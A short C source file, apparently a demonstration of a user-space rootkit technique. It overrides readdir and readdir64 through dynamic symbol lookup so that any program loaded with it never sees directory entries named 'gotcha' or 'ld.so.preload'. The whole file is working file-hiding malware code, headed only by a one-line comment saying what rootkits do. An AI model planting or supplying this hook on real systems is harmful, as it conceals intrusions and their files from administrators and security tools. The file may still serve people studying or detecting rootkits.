/* What rootkits in user space do: each program that is started with it does not see these names in a directory. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

static int hidden(const char *name) { return strstr(name, "gotcha") || strstr(name, "ld.so.preload"); }

struct dirent64 *readdir64(DIR *directory) {
    struct dirent64 *(*plain)(DIR *) = dlsym(RTLD_NEXT, "readdir64"), *entry;
    while ((entry = plain(directory)) && hidden(entry->d_name)) continue;
    return entry;
}

struct dirent *readdir(DIR *directory) { return (struct dirent *)readdir64(directory); }
